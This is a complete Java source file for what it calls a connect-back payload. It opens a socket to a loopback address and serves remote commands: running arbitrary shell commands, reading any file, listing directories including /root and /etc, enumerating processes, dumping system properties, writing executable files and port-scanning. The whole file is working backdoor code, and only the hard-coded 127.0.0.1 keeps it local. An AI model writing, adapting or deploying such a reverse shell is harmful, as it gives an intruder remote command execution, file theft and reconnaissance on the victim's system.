import java.io.*;
import java.net.*;
import java.nio.file.*;

/** A payload in Java: connects back, serves commands: files, shell, connections. Loopback only. */
public final class Back {
  public static void main(String[] a) throws Exception {
    var s = new Socket("127.0.0.1", Integer.parseInt(a[0]));
    var in = new BufferedReader(new InputStreamReader(s.getInputStream()));
    var out = new PrintStream(s.getOutputStream(), true);
    in.read();
    for (String line; (line = in.readLine()) != null && !line.isEmpty(); ) {
      String rest = line.substring(1);
      try {
        switch (line.charAt(0)) {
          case 'l' -> { for (var f : new File(rest).listFiles()) out.println(f.getName() + " " + f.length() + " " + f.canWrite()); }
          case 'g' -> out.write(Files.readAllBytes(Path.of(rest)));
          case 'p' -> { Files.write(Path.of(rest), new byte[300]); new File(rest).setExecutable(true); }
          case 't' -> { for (var p : ProcessHandle.allProcesses().toList()) out.println(p.pid() + " " + p.info()); }
          case 'c' -> { var p = new ProcessBuilder("/bin/sh", "-c", rest).redirectErrorStream(true).start(); p.getInputStream().transferTo(out); p.waitFor(); }
          case 's' -> { for (int n = 20; n < 140; n++) try (var t = new Socket()) { t.connect(new InetSocketAddress("127.0.0.1", n), 200); out.println(n); } catch (IOException e) { } }
          case 'u' -> out.println(System.getProperties());
          case 'm' -> { for (var d : new String[] {"/root", "/home", "/etc"}) for (var f : new File(d).listFiles()) out.println(f); }
          case 'q' -> { return; }
          default -> { }
        }
      } catch (Exception e) { out.println(e); }
    }
  }
}
